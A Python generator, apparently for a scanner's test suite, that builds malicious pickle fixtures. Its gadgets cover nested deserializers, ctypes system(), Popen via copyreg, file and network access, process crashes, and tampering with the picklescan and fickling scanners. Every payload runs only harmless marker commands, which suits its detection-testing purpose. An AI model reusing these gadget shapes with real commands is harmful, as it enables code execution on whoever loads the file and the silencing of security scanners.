         "venv.create('/tmp/hallmark-test-marker-venv', prompt='$(echo ...)')",
         Call(G("venv", "create"), "/tmp/hallmark-test-marker-venv", False, False, False, False,
              "$(echo hallmark-test-marker)"))

    g = "6.C nested deserializers"
    each("g_marshal_function", g, "critical", "marshal.loads",
         "types.FunctionType(marshal.loads(<code object>), {})() (fickling GHSA-565g)",
         Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), CODE_MARSHAL), {})))
    partial = Build(Call(G("functools", "partial"), G("torch", "load")),
                    (G("torch", "load"), (), {"weights_only": False}, None))
    each("g_torch_load_partial", g, "critical", "torch.load",
         "functools.partial(torch.load) + BUILD state kwargs weights_only=False, called on "
         "io.BytesIO(<os.system pickle>)",
         Call(partial, Call(G("io", "BytesIO"), INNER)))
    each("g_joblib_load", g, "critical", "joblib.load",
         "joblib.load(io.BytesIO(<os.system pickle>))",
         Call(G("joblib", "load"), Call(G("io", "BytesIO"), INNER)))
    each("g_yaml_unsafe_load", g, "critical", "yaml.unsafe_load",
         "yaml.unsafe_load('!!python/object/apply:os.system [...]')",
         Call(G("yaml", "unsafe_load"),
              "!!python/object/apply:os.system ['echo hallmark-test-marker']"))
    each("g_dill_loads", g, "critical", "dill.loads", "dill.loads(<os.system pickle>)",
         Call(G("dill", "loads"), INNER))
    code = Call(Call(G("cloudpickle.cloudpickle", "_builtin_type"), "CodeType"), *CODE_ARGS)
    each("g_cloudpickle_make_function", g, "critical", "cloudpickle._make_function",
         "cloudpickle _builtin_type('CodeType')(...) -> _make_function(code, {}, ...) -> call",
         Call(Call(G("cloudpickle.cloudpickle", "_make_function"), code, {}, "hallmark",
                   None, None)))

    g = "6.C file write/read"
    each("g_builtins_open", g, "critical", "builtins.open",
         "builtins.open('/tmp/hallmark-test-marker.txt', 'a')",
         Call(G("builtins", "open"), MARKER_PATH, "a"))
    each("g_io_fileio", g, "critical", "_io.FileIO", "_io.FileIO(marker path, 'a')",
         Call(G("_io", "FileIO"), MARKER_PATH, "a"))
    each("g_pathlib_write_text", g, "critical", "pathlib.Path",
         "pathlib.Path.write_text(Path(marker path), 'hallmark-test-marker')",
         Call(Method("pathlib", "Path", "write_text"), Call(G("pathlib", "Path"), MARKER_PATH),
              "hallmark-test-marker"))
    each("g_shutil_rmtree", g, "critical", "shutil.rmtree",
         "shutil.rmtree(<nonexistent marker dir>, ignore_errors=True)",
         Call(G("shutil", "rmtree"), "/tmp/hallmark-test-marker-does-not-exist", True))
    each("g_logging_filehandler", g, "critical", "logging.FileHandler",
         "logging.FileHandler('/tmp/hallmark-test-marker.log') creates the file",
         Call(G("logging", "FileHandler"), "/tmp/hallmark-test-marker.log"))
    each("g_tempfile_mkdtemp", g, "critical", "tempfile.mkdtemp",
         "tempfile.mkdtemp('', 'hallmark-test-marker-')",
         Call(G("tempfile", "mkdtemp"), "", "hallmark-test-marker-"))

    g = "6.C network"
    each("g_socket_create_connection", g, "critical", "socket.create_connection",
         "socket.create_connection(('127.0.0.1', 9))",
         Call(G("socket", "create_connection"), ("127.0.0.1", 9)))
    each("g_urllib_urlopen", g, "critical", "urllib.request.urlopen",
         "urllib.request.urlopen('http://127.0.0.1:9/hallmark-test-marker')",
         Call(G("urllib.request", "urlopen"), URL))
    each("g_ssl_get_server_certificate", g, "critical", "ssl.get_server_certificate",
         "ssl.get_server_certificate(('hallmark-test-marker.invalid', 443)): DNS exfil shape",
         Call(G("ssl", "get_server_certificate"), ("hallmark-test-marker.invalid", 443)))
    each("g_webbrowser_open", g, "critical", "webbrowser.open",
         "webbrowser.open(marker URL)", Call(G("webbrowser", "open"), URL))
    each("g_requests_get", g, "critical", "requests.get",
         "requests.get(marker URL)", Call(G("requests", "get"), URL))

    g = "6.C ctypes"
    each("g_ctypes_cdll", g, "critical", "ctypes.CDLL",
         "getattr(ctypes.CDLL(None), 'system')(b'echo ...'): libc system() via ctypes",
         Call(Call(G("builtins", "getattr"), Call(G("ctypes", "CDLL"), None), "system"),
              b"echo hallmark-test-marker"))

    g = "6.C process/DoS"
    each("g_os_exit", g, "critical", "os._exit", "os._exit(0) kills the loading process",
         Call(G("os", "_exit"), 0))
    each("g_faulthandler_sigsegv", g, "critical", "faulthandler._sigsegv",
         "faulthandler._sigsegv() crashes the loading process",
         Call(G("faulthandler", "_sigsegv")))
    each("g_signal_raise_signal", g, "critical", "signal.raise_signal",
         "signal.raise_signal(28) (SIGWINCH, ignored by default)",
         Call(G("signal", "raise_signal"), 28))

    g = "6.C scanner tampering"
    each("g_tamper_picklescan", g, "high", "picklescan.scanner",
         "methodcaller('clear')(picklescan.scanner._unsafe_globals) empties an in-process "
         "scanner's denylist",
         Call(Call(G("operator", "methodcaller"), "clear"),
              G("picklescan.scanner", "_unsafe_globals")))
    each("g_tamper_fickling", g, "high", "fickling",
         "setattr(fickling.analysis, 'check_safety', builtins.print) patches an in-process "
         "scanner", Call(G("builtins", "setattr"), G("fickling", "analysis"), "check_safety",
                         G("builtins", "print")))

    g = "6.C private aliases"
    each("g_private_operator_attrgetter", g, "critical", "_operator.attrgetter",
         "the attrgetter('__globals__') chain through the C module _operator",
         attrgetter_chain("_operator"))
    each("g_private_io_open", g, "critical", "_io.open", "_io.open(marker path, 'a')",
         Call(G("_io", "open"), MARKER_PATH, "a"))
    each("g_private_functools_partial", g, "critical", "_functools.partial",
         "_functools.partial(os.system, cmd)()",
         Call(Call(G("_functools", "partial"), G("os", "system"), CMD)))

    g = "6.C copyreg._reconstructor"
    each("g_copyreg_reconstructor", g, "critical", "copyreg._reconstructor",
         "copyreg._reconstructor(Popen, Popen, ['echo', ...]) calls base.__init__(obj, state) "
         "= Popen.__init__ with a hostile base",
         Call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("subprocess", "Popen"),
              CMD_LIST))

    g = "6.C Sleepy Pickle unknown callable"
    each("g_sleepy_unknown_function", g, "medium", "mylib.patch_weights",
         "model-like dict whose 'hook' value calls mylib.patch_weights('hallmark-test-marker'): "
         "not allowlisted, not denylisted -> at least medium",
         {"state_dict": {"layer.weight": [0.5, -1.25]},
          "hook": Call(G("mylib", "patch_weights"), "hallmark-test-marker")})


def main():
    for build_family in (b1, b2, b3, b4, b5, b6, b7, b8, b9, b10, b11, b12, a13, gadgets):
        build_family()

    names = [f[0] for f in FIXTURES]
    dup = {n for n in names if names.count(n) > 1}
    assert not dup, dup

    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        if old.endswith(".pkl"):
            os.remove(os.path.join(OUT, old))
    manifest = []
    for file, family, protocol, sev, expect, note, data in sorted(FIXTURES):
        with open(os.path.join(OUT, file), "wb") as f:
            f.write(data)
        manifest.append({"file": file, "family": family, "protocol": protocol,
                         "min_severity": sev, "expect": expect, "note": note})
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        f.write("[\n" + ",\n".join(json.dumps(m) for m in manifest) + "\n]\n")
    total = sum(len(x[6]) for x in FIXTURES)
    print("wrote %d fixtures (%d bytes) to %s" % (len(FIXTURES), total, OUT))


if __name__ == "__main__":
    main()
